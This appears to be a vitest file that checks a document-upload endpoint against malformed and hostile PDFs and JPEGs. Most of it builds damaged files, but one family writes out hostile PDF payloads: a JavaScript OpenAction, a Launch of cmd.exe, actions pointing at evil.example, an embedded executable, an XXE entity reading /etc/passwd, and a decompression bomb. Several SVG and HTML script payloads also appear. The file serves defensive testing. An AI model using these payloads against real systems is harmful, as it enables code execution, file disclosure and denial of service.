/**
 * Odd, damaged and hostile files (docs/faults.md, U-01 to U-03): taken as they are, with a picture, or refused in words
 * with nothing kept; never a fault, never a wait. The bytes of a PDF that is taken are never changed.
 */
import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  addPersonalDocument,
  downloadPersonalDocument,
  downloadPersonalDocumentThumb,
  removePersonalDocument,
} from '#contract/endpoints/personalDocument.ts'
import { newcomer, smallPdf } from '#test/support/applicant.ts'
import { type Client, type Harness, openHarness } from '#test/support/harness.ts'

let harness: Harness
let client: Client
beforeAll(async () => {
  harness = await openHarness()
  client = await newcomer(harness)
})
afterAll(() => harness.close())

const kept = async () => {
  const { rows } = { rows: await harness.dependencies.db.selectFrom('storedBlob').select('key').execute() }
  return rows.length
}

/** @returns what became of it */
async function submitDocuments(name: string, type: string, bytes: Uint8Array): Promise<'taken' | 'refused'> {
  const before = await kept()
  const file = new File([Buffer.from(bytes)], name, { type })
  const answer = await client.call(addPersonalDocument, { body: { documentType: 'HA_E' }, file })
  if (answer.code !== null) {
    expect([answer.status, answer.code]).toEqual([409, 'FILE_NOT_ACCEPTED'])
    expect(answer.error?.data).toMatchObject({ name, fault: expect.any(String) })
    expect(await kept()).toBe(before)
    return 'refused'
  }
  const params = { id: answer.body.id }
  const download = await client.call(downloadPersonalDocument, { params })
  expect(download.bytes).toHaveLength(answer.body.file.size)
  if (type === 'application/pdf') expect(Buffer.from(download.bytes).equals(bytes)).toBe(true)
  const thumb = await client.call(downloadPersonalDocumentThumb, { params })
  expect(thumb.headers.get('content-type')).toBe('image/jpeg')
  const { format, width = 0, height = 0, exif } = await sharp(thumb.bytes).metadata()
  expect([format, Math.max(width, height) <= 1_024, exif]).toEqual(['jpeg', true, undefined])
  await client.call(removePersonalDocument, { params })
  harness.clock.advance(1_000)
  return 'taken'
}

const made = async (options: PDFKit.PDFDocumentOptions = {}, pages = 1) => {
  const document = new PDFDocument({ size: 'A4', ...options })
  document.text('Certidão 證明')
  for (let page = 1; page < pages; page += 1) document.addPage().text(`${page}`)
  document.end()
  const chunks: Buffer[] = []
  for await (const chunk of document) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks)
}
const replaced = (bytes: Buffer, from: string | RegExp, to: string) =>
  Buffer.from(bytes.toString('latin1').replace(from, to), 'latin1')
const raw = (...objects: string[]) =>
  Buffer.from(`%PDF-1.7\n${objects.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1')
const catalog = '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj'
const pages = '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj'
const page = (more = '') =>
  `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R${more}>>endobj`
const content = (text: string) => `4 0 obj<</Length ${text.length}>>stream\n${text}\nendstream endobj`
const withAction = (action: string) =>
  raw(`1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>endobj`, pages, page(), content(''))

describe('PDFs', () => {
  const families: [string, () => Promise<Buffer[]>][] = [
    [
      'of every version',
      async () =>
        Promise.all(
          (['1.3', '1.4', '1.5', '1.6', '1.7'] as const).map((pdfVersion) =>
            made({ pdfVersion, compress: pdfVersion !== '1.3' }),
          ),
        ),
    ],
    [
      'of many pages, and of none',
      async () => [await made({}, 300), raw(catalog, '2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj')],
    ],
    [
      'of odd sizes',
      async () =>
        Promise.all(
          [
            [1, 1],
            [14_400, 14_400],
            [3, 14_400],
            [0.1, 0.1],
          ].map((size) => made({ size: size as [number, number] })),
        ),
    ],
    [
      'that are cut anywhere',
      async () => {
        const whole = await made()
        return Array.from({ length: 20 }, (_, part) =>
          whole.subarray(0, Math.max(20, Math.floor((whole.length * part) / 20))),
        )
      },
    ],
    [
      'with one byte changed anywhere',
      async () => {
        const whole = await made()
        return Array.from({ length: 40 }, (_, part) => {
          const damaged = Buffer.from(whole)
          const at = 9 + Math.floor(((whole.length - 10) * part) / 40)
          damaged[at] = (damaged[at] ?? 0) ^ 0xff
          return damaged
        })
      },
    ],
    [
      'whose table of objects is wrong',
      async () => {
        const whole = await made()
        return [
          replaced(whole, /startxref\n\d+/, 'startxref\n0'),
          replaced(whole, /startxref\n\d+/, 'startxref\n99999999'),
          replaced(whole, /startxref\n\d+/, 'startxref\n-1'),
          replaced(whole, 'xref', 'xrfe'),
          replaced(whole, '%%EOF', ''),
          replaced(whole, /\/Size \d+/, '/Size 0'),
          replaced(whole, /\/Root \d+/, '/Root 9999'),
          replaced(whole, '/Catalog', '/Katalog'),
          replaced(whole, /\/Length \d+/g, '/Length 1'),
          replaced(whole, /\/Count 1/, '/Count 1000000000'),
        ]
      },
    ],
    [
      'with something before and behind',
      async () => {
        const whole = await made()
        return [
          Buffer.concat([Buffer.from('\n\n  '), whole]),
          Buffer.concat([Buffer.alloc(900, 32), whole]),
          Buffer.concat([whole, Buffer.alloc(100_000)]),
          Buffer.concat([whole, whole]),
        ]
      },
    ],
    [
      'that go round in circles',
      async () => [
        raw(catalog, '2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj'),
        raw('1 0 obj 1 0 R endobj'),
        raw(catalog, pages, '3 0 obj<</Type/Page/Parent 3 0 R/MediaBox 3 0 R/Contents 3 0 R>>endobj'),
        raw(
          catalog,
          pages,
          page('/Resources<</XObject<</A 5 0 R>>>>'),
          content('/A Do'),
          '5 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 5 0 R>>>>/Length 5>>stream\n/A Do\nendstream endobj',
        ),
        raw(catalog, pages, page(), '4 0 obj<</Length 4 0 R/Filter 4 0 R>>stream\nx\nendstream endobj'),
      ],
    ],
    [
      'that would act',
      async () => [
        withAction('<</S/JavaScript/JS(app.alert\\(1\\))>>'),
        withAction('<</S/URI/URI(https://evil.example/)>>'),
        withAction('<</S/Launch/F(cmd.exe)>>'),
        withAction('<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0]>>'),
        withAction('<</S/SubmitForm/F(https://evil.example/)>>'),
        withAction('<</S/ImportData/F(https://evil.example/)>>'),
        raw(
          '1 0 obj<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>>>endobj',
          pages,
          page(),
          content(''),
          '5 0 obj<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>endobj',
          '6 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj',
        ),
        raw(
          '1 0 obj<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 5 0 R/Fields[]>>>>endobj',
          pages,
          page(),
          content(''),
          '5 0 obj<</Length 60>>stream\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;    \nendstream endobj',
        ),
        raw(
          catalog,
          pages,
          page(
            '/Resources<</Font<</F<</Type/Font/Subtype/Type1/FontMatrix[1 0 0 1 0 (0\\);alert\\(1)]>>>>>>',
          ),
          content('BT /F 9 Tf (x) Tj ET'),
        ),
      ],
    ],
    [
      'that are also something else',
      async () => [
        Buffer.concat([Buffer.from('GIF89a'), await made()]),
        Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), await made()]),
        Buffer.concat([Buffer.from('PK\u0003\u0004'), await made()]),
        Buffer.from('%PDF-1.7'),
        Buffer.from('%PDF-'),
        Buffer.from('%!PS-Adobe-3.0\n%%EOF'),
        Buffer.from('%FDF-1.2\n1 0 obj<<>>endobj'),
        Buffer.alloc(2_000, '%PDF-1.7 '),
        Buffer.alloc(5_000, 0),
      ],
    ],
    [
      'guarded by a password',
      async () => [
        await made({ userPassword: 'x' }),
        await made({ ownerPassword: 'x' }),
        await made({ userPassword: '', ownerPassword: 'x', pdfVersion: '1.7' }),
      ],
    ],
    [
      'that unpack without end',
      async () => {
        const bomb = deflateSync(deflateSync(Buffer.alloc(200 * 1024 * 1024, 'q Q ')))
        const text = bomb.toString('latin1')
        return [
          raw(
            catalog,
            pages,
            page(),
            `4 0 obj<</Length ${text.length}/Filter[/FlateDecode/FlateDecode]>>stream\n${text}\nendstream endobj`,
          ),
        ]
      },
    ],
    ['of the smallest kind', async () => [smallPdf, raw(catalog, pages, page(), content('')), raw('')]],
  ]

  it.each(families)(
    '%s',
    async (_story, build) => {
      const outcomes = []
      for (const bytes of await build()) {
        const begun = performance.now()
        outcomes.push(await submitDocuments('a.pdf', 'application/pdf', bytes))
        expect(performance.now() - begun).toBeLessThan(12_000)
      }
      expect(outcomes.length).toBeGreaterThan(0)
    },
    120_000,
  )
})

describe('pictures', () => {
  const base = () => sharp({ create: { width: 60, height: 40, channels: 3, background: 'red' } })
  const families: [string, 'taken' | 'refused' | 'either', () => Promise<Uint8Array[]>][] = [
    [
      'of every orientation',
      'taken',
      () =>
        Promise.all(
          [1, 2, 3, 4, 5, 6, 7, 8].map((orientation) =>
            base().withMetadata({ orientation }).jpeg().toBuffer(),
          ),
        ),
    ],
    [
      'of every kind of coding',
      'taken',
      () =>
        Promise.all([
          base().jpeg({ progressive: true }).toBuffer(),
          base().jpeg({ chromaSubsampling: '4:4:4' }).toBuffer(),
          base().jpeg({ quality: 1 }).toBuffer(),
          base().jpeg({ mozjpeg: true }).toBuffer(),
          base().greyscale().jpeg().toBuffer(),
          base().toColourspace('cmyk').jpeg().toBuffer(),
          sharp({ create: { width: 1, height: 1, channels: 3, background: 'red' } })
            .jpeg()
            .toBuffer(),
          sharp({ create: { width: 5_000, height: 20, channels: 3, background: 'red' } })
            .jpeg()
            .toBuffer(),
        ]),
    ],
    [
      'that are cut anywhere',
      'either',
      async () => {
        const whole = await base().jpeg().toBuffer()
        return Array.from({ length: 20 }, (_, part) =>
          whole.subarray(0, Math.max(4, Math.floor((whole.length * part) / 20))),
        )
      },
    ],
    [
      'with one byte changed anywhere',
      'either',
      async () => {
        const whole = await base().withMetadata({ orientation: 6 }).jpeg().toBuffer()
        return Array.from({ length: 40 }, (_, part) => {
          const damaged = Buffer.from(whole)
          const at = 3 + Math.floor(((whole.length - 4) * part) / 40)
          damaged[at] = (damaged[at] ?? 0) ^ 0x55
          return damaged
        })
      },
    ],
    [
      'that are another kind',
      'refused',
      () =>
        Promise.all([
          base().png().toBuffer(),
          base().webp().toBuffer(),
          base().gif().toBuffer(),
          base().tiff().toBuffer(),
          base().avif().toBuffer(),
          Promise.resolve(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
          Promise.resolve(Buffer.from('<html><script>alert(1)</script></html>')),
          Promise.resolve(Buffer.from('PK\u0003\u0004')),
          Promise.resolve(Buffer.from('BM')),
          made(),
        ]),
    ],
  ]

  it.each(families)(
    '%s: %s',
    async (_story, expected, build) => {
      for (const bytes of await build()) {
        const outcome = await submitDocuments('a.jpg', 'image/jpeg', bytes)
        if (expected !== 'either') expect(outcome).toBe(expected)
      }
    },
    120_000,
  )
})
